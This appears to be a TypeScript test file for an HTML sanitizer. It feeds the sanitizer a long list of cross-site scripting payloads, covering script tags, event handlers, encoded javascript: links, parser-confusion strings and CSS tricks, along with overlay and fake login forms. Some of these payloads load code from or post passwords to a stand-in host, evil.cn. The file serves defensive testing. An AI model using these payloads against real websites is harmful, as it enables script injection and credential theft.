import { describe, expect, it } from 'vitest';
import { elements } from './allow-list.ts';
import { cleanRichText } from './clean.ts';
import { cleanRichFields } from './clean-fields.ts';

/** Each would run code, fetch code, or lie over the page in one browser or another when it is stored and shown as it stands. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT/x>alert(1)</SCRIPT>',
  '<script src=//evil.cn/x.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x`" `onerror=alert(1)>',
  "<img src='x' onerror='alert(1)' ",
  '<p onclick=alert(1) onmouseover="alert(2)">x</p>',
  '<section style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">登录已失效</section>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="width:exp/**/ression(alert(1))">x</p>',
  '<p style="-moz-binding:url(//evil.cn/x.xml#a)">x</p>',
  '<p style="color:red;background-image:\\75rl(//evil.cn)">x</p>',
  '<p style="margin-top:-9999px">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\u00adscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="\\\\evil.cn\\x">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<iframe src="https://evil.cn"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.cn/x.swf"></object><embed src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p/onclick=alert(1)//>x',
  '<b <script>alert(1)</script>0',
  '<p title="<script>alert(1)</script>">x</p>',
  '<form action="https://evil.cn"><input name=password><button>登录</button></form>',
  '<base href="https://evil.cn/"><link rel=stylesheet href=//evil.cn/x.css><meta http-equiv=refresh content="0;url=//evil.cn">',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<table background="javascript:alert(1)"><td background=javascript:alert(1)>',
  '<p id=location name=cookie>x</p>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<p class="x" class=\'" onclick=alert(1) \'>x</p>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<ımg src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
];

/** Reads the result as strictly as it must be written: text without angle brackets, tags of the list, quoted attributes. */
function faults(html: string): string[] {
  const found: string[] = [];
  const tag = /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*) ?(\/?)>/g;
  const rest = html.replaceAll(tag, (_, _end, name: string, attributes: string) => {
    if (!elements.has(name)) found.push(`element ${name}`);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
      if (!['class', 'style', ...(elements.get(name) ?? [])].includes(attribute)) found.push(`attribute ${attribute}`);
      if ((attribute === 'href' || attribute === 'src') && /^[^/?#]*:/.test(value) && !/^(?:https?|mailto|tel):/i.test(value))
        found.push(`address ${value}`);
      if (attribute === 'style' && /url|position|expression|\\|binding|:-\d/.test(value)) found.push(`style ${value}`);
    }
    return '';
  });
  if (/[<>]/.test(rest)) found.push(`text ${rest}`);
  return found;
}

describe('rich text that attacks', () => {
  it.each(attacks.map((attack) => [attack]))('%j', (attack) => {
    for (const html of [attack, `<p>前</p>${attack}<p>后</p>`, `<table><tr><td>${attack}`, `<ul><li>${attack}</ul>`]) {
      const cleaned = cleanRichText(html);
      if (cleaned.kind !== 'clean') throw new Error('not cleaned');
      expect(faults(cleaned.html)).toEqual([]);
      const again = cleanRichText(cleaned.html);
      expect(again).toMatchObject({ html: cleaned.html, harmful: false });
    }
  });

  it('says what was taken, in names of ours', () => {
    const cleaned = cleanRichText(
      '<p onclick=a() style="color:red;position:fixed">x</p><script>1</script><我的>y</我的><x-secret-42><a href="javascript:1">z</a>',
    );
    expect(cleaned).toMatchObject({
      kind: 'clean',
      harmful: true,
      removed: { elements: { script: 1, unknown: 1 }, handlers: 1, addresses: 1, styles: 1, attributes: 0 },
    });
  });

  it('never cleans twice differently, whatever it is given', () => {
    let seed = 42;
    const random = (below: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff;
      return seed % below;
    };
    const pieces = [
      '<',
      '>',
      '/',
      '"',
      "'",
      '=',
      ' ',
      '&',
      '&lt;',
      '&amp;',
      '<p',
      '<img src=',
      'onerror=',
      'javascript:',
      '<!--',
      '-->',
      '</',
      'svg',
      '<svg>',
      '<style>',
      '</style>',
      '<table>',
      '<td>',
      'style="',
      'color:red;',
      '<b>',
      '</b>',
      '`',
      '\u0000',
      '字',
      ']]>',
      '<![CDATA[',
      '<a href="',
      '&#x3c;',
      '&#60',
      '<title>',
      '</title>',
    ];
    for (let run = 0; run < 3_000; run += 1) {
      let html = '';
      for (let at = random(24); at >= 0; at -= 1) html += pieces[random(pieces.length)] ?? '';
      const once = cleanRichText(html);
      if (once.kind !== 'clean') throw new Error('not cleaned');
      expect(faults(once.html), html).toEqual([]);
      expect(cleanRichText(once.html), html).toMatchObject({ html: once.html });
    }
  });

  it('bounds depth and size before it works', () => {
    expect(cleanRichText('x'.repeat(262_145))).toEqual({ kind: 'too_large' });
    expect(cleanRichText('<b>'.repeat(30_000))).toEqual({ kind: 'too_large' });
    expect(cleanRichText('&amp;'.repeat(30_000))).toEqual({ kind: 'too_large' });
    const deep = cleanRichText('<b>'.repeat(5_000));
    expect(deep.kind === 'clean' && (deep.html.match(/<b>/g)?.length ?? 0)).toBe(100);
  });

  it('grows in proportion', () => {
    /** The best of many, in milliseconds: what else the machine does only makes it longer. */
    const time = (html: string, tries: number): number => {
      let best = Number.POSITIVE_INFINITY;
      for (let run = 0; run < tries; run += 1) {
        const before = performance.now();
        cleanRichText(html);
        best = Math.min(best, performance.now() - before);
      }
      return best;
    };
    for (const piece of ['<b>', '<table><td>', '<p style="color:red">', '&amp;<i>', '<!--', '<a href="x">', '</p>', '<p x=']) {
      const html = (times: number): string => piece.repeat(Math.floor((1_900 * times) / 1));
      const small = time(html(1), 12);
      const large = time(html(8), 6);
      // Eight times the text; a quadratic cleaner would need 64 times as long.
      expect(large / Math.max(small, 0.3), piece).toBeLessThan(40);
    }
  });
});

describe('rich text in a value', () => {
  it('is found at any depth, and in nothing else', () => {
    const body = { html: '<b>a</b><script>1</script>', title: '<script>', list: [{ content: { html: '<i onclick=x>b</i>' } }] };
    expect(cleanRichFields(body, { names: ['content.html'], declared: null })).toMatchObject({
      changed: true,
      value: { html: body.html, title: '<script>', list: [{ content: { html: '<i>b</i>' } }] },
      fields: [{ field: 'content.html', harmful: true }],
    });
    expect(cleanRichFields(body, { names: ['html'], declared: null })).toMatchObject({
      value: { html: '<b>a</b>', title: '<script>' },
      fields: [{ field: 'html' }, { field: 'html' }],
    });
  });

  it('refuses many fields that are too much together', () => {
    const list = Array.from({ length: 20 }, () => ({ html: '<b>x</b>'.repeat(1_000) }));
    expect(cleanRichFields({ list: list.slice(0, 10) }, { names: ['html'], declared: null })).toMatchObject({ kind: 'clean' });
    expect(cleanRichFields({ list }, { names: ['html'], declared: null })).toEqual({ kind: 'too_large', field: 'html' });
  });

  it('refuses what is larger than an article', () => {
    expect(cleanRichFields({ html: '<b>'.repeat(30_000) }, { names: ['html'], declared: null })).toEqual({
      kind: 'too_large',
      field: 'html',
    });
  });
});
